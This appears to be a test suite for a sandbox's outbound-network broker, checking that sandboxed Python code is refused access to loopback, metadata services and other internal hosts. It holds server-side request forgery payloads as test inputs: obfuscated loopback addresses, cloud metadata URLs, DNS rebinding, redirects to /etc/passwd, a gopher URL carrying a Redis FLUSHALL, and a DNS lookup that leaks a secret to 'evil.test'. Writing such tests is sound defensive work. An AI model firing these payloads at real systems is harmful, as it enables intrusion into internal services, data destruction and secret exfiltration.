import { assert, assertEquals, assertMatch, assertStringIncludes } from "@std/assert";
import { withNetwork } from "./network.ts";

/** Spellings of loopback, of what stands for it, and of other inner places. */
const INNER = [
  ...["127.0.0.1", "127.1", "127.0.1", "2130706433", "0x7f000001", "0x7f.0.0.1", "0177.0.0.1"],
  ...[
    "017700000001",
    "127.0.0.1.",
    "127.255.255.254",
    "0",
    "0.0.0.0",
    "１２７.０.０.１",
    "①②⑦.0.0.1",
  ],
  ...["localhost", "LOCALHOST.", "[::1]", "[::]", "[0:0:0:0:0:0:0:1]", "[::ffff:127.0.0.1]"],
  ...["[::ffff:7f00:1]", "[::127.0.0.1]", "[::ffff:0:127.0.0.1]", "[64:ff9b::127.0.0.1]"],
  ...["[64:ff9b:1::7f00:1]", "[2002:7f00:1::]", "[2001:0:7f00:1::]", "[fe80::1]", "[fd00::1]"],
];

Deno.test("hostile egress: no spelling of an inner address leads there", async (t) => {
  const names = { localhost: ["127.0.0.1", "::1"] };
  await withNetwork({ names }, async ({ attempt, canary, escapes }) => {
    for (const host of INNER) {
      await t.step(host, async () => {
        const url = JSON.stringify(`http://${host}:${canary}/`);
        const honest = await attempt(`requests.get(${url}, timeout=5)`);
        assertMatch(honest, /requests\.exceptions\.|UnicodeError|LocationParseError/);
        assertMatch(await attempt(`result = http(url=${url})`), /'refused'|'invalid_url'/);
        assertEquals(escapes, []);
      });
    }
  });
});

Deno.test("hostile egress: metadata services are out of reach", async (t) => {
  const names = {
    "metadata.google.internal": ["169.254.169.254"],
    "instance-data": ["169.254.169.254"],
    "v6.metadata.test": ["fd00:ec2::254"],
    "alibaba.test": ["100.100.100.200"],
    "oracle.test": ["192.0.0.192"],
  };
  await withNetwork({ names }, async ({ attempt }) => {
    for (const host of ["169.254.169.254", "[fd00:ec2::254]", ...Object.keys(names)]) {
      await t.step(host, async () => {
        const code = `requests.get("http://${host}/latest/meta-data/", timeout=5)`;
        assertMatch(await attempt(code), /not on the public internet|is a metadata service/);
      });
    }
  });
});

Deno.test("hostile egress: names that lead inside", async (t) => {
  let turn = 0;
  const names = {
    "inner.test": ["127.0.0.1"],
    "mixed.test": ["93.184.216.34", "127.0.0.1"],
    "mapped.test": ["::ffff:127.0.0.1"],
    "nat64.test": ["64:ff9b::7f00:1"],
    "rebind.test": () => [turn++ % 2 === 0 ? "240.0.0.1" : "127.0.0.1"],
    "cname.site.test": ["127.0.0.1"],
  };
  await withNetwork({ names }, async ({ attempt, canary, escapes, broker }) => {
    for (const name of Object.keys(names)) {
      await t.step(name, async () => {
        const code = `
import collections
seen = collections.Counter()
for _ in range(6):
    try: requests.get("http://${name}:${canary}/", timeout=5); seen["answer"] += 1
    except requests.ConnectionError as error: seen["not on the public" in str(error)] += 1
result = dict(seen)`;
        assertEquals(await attempt(code), "{True: 6}");
        assertEquals(escapes, []);
      });
    }
    // One resolution a request: nothing looks again between check and connect.
    assertEquals(broker.lookups.filter((name) => name === "rebind.test").length, 6);
  });
});

Deno.test("hostile egress: redirects and odd addresses", async (t) => {
  let target = "";
  await withNetwork({
    answer: async (conn) => {
      const head = `HTTP/1.1 302 Found\r\nLocation: ${target}\r\nContent-Length: 0\r\n\r\n`;
      await conn.write(new TextEncoder().encode(head));
    },
  }, async ({ attempt, canary, port, escapes, broker }) => {
    const targets = [
      `http://127.0.0.1:${canary}/`,
      `//127.0.0.1:${canary}/`,
      `http://0x7f.1:${canary}/`,
      `http://[::ffff:127.0.0.1]:${canary}/`,
      "http://169.254.169.254/",
      "file:///etc/passwd",
      "gopher://127.0.0.1:6379/_FLUSHALL",
    ];
    for (const place of targets) {
      await t.step(`redirect to ${place.replace(String(canary), "…")}`, async () => {
        target = place;
        const said = await attempt(`requests.get("http://site.test:${port}/", timeout=60)`);
        assertMatch(said, /requests\.exceptions\.(ConnectionError|InvalidSchema)/);
        assertEquals(escapes, []);
      });
    }
    await t.step("a redirect without an end", async () => {
      target = "/again";
      const said = await attempt(`requests.get("http://site.test:${port}/", timeout=60)`);
      assertStringIncludes(said, "TooManyRedirects");
    });
    const addresses = [
      `http://site.test@127.0.0.1:${canary}/`,
      `http://site.test:${port}@127.0.0.1:${canary}/`,
      `http://127.0.0.1:${canary}\\@site.test/`,
      `http://127.0.0.1:${canary}#@site.test/`,
      `http://127.0.0.1:${canary}?@site.test/`,
      `http:127.0.0.1:${canary}/`,
      `http:////127.0.0.1:${canary}/`,
      `HTTP://127.0.0.1:${canary}/`,
      `http://127.0.0.1:0${canary}/`,
    ];
    for (const [index, url] of addresses.entries()) {
      await t.step(`address ${url.replaceAll(/:\d+/g, ":…")} (${index})`, async () => {
        const said = await attempt(`result = http(url=${JSON.stringify(url)})`);
        assertMatch(said, /'(refused|invalid_url|dns)'/);
        assertEquals(escapes, []);
      });
    }
    await t.step("schemes other than http and https", async () => {
      for (const url of ["file:///etc/passwd", "ftp://site.test/", "data:,x", "unix:/run/x"]) {
        assertMatch(
          await attempt(`result = http(url="${url}")`),
          /'refused', 'Only http and https/,
        );
        assertStringIncludes(await attempt(`requests.get("${url}")`), "InvalidSchema");
      }
    });
    await t.step("ports of other services", async () => {
      for (const number of [22, 25, 53, 445, 3306, 5432, 6379, 11211, 10250, 6667]) {
        const code = `requests.get("http://93.184.216.34:${number}/", timeout=5)`;
        assertStringIncludes(await attempt(code), `Port ${number} is blocked`);
      }
      for (const number of [0, 65_536, -1]) {
        const said = await attempt(`result = http(url="http://site.test:${number}/")`);
        assertMatch(said, /'(invalid_url|refused)'/);
      }
    });
    assert(broker.refused.every(({ server }) => server === "weather"));
  });
});

Deno.test("hostile egress: Berth's own listeners, whatever is allowed", async (t) => {
  const names = { "berth.test": ["127.0.0.1"], localhost: ["127.0.0.1"] };
  const allow = ["0.0.0.0/0", "::/0", "berth.test", "localhost", "127.0.0.1:{canary}"];
  const interfaces = ["127.0.0.1", "::1"];
  await withNetwork({ names, allow, interfaces, own: [] }, async (network) => {
    const { attempt, canary, escapes } = network;
    for (const host of ["127.0.0.1", "127.8.8.8", "localhost", "berth.test", "[::1]", "0.0.0.0"]) {
      await t.step(host, async () => {
        const said = await attempt(`requests.get("http://${host}:${canary}/", timeout=5)`);
        assertStringIncludes(said, "belongs to Berth itself");
        assertEquals(escapes, []);
      });
    }
  });
});

Deno.test("hostile egress: names outside EGRESS_HOSTS are not even looked up", async (t) => {
  await withNetwork({ hosts: ["api.example.com"] }, async ({ attempt, broker }) => {
    await t.step("a secret in a name of the attacker's", async () => {
      const said = await attempt(`requests.get("http://my-secret.evil.test/", timeout=5)`);
      assertStringIncludes(said, "not among the hosts that the operator allows");
    });
    await t.step("the interpreter's own resolver", async () => {
      await attempt(`
import socket
for call in (socket.gethostbyname, socket.getfqdn, lambda n: socket.getaddrinfo(n, 80)):
    try: call("my-secret.evil.test")
    except Exception: pass`);
    });
    assertEquals(broker.lookups, []);
    assert(!broker.lines.join().includes("/?"));
  });
});
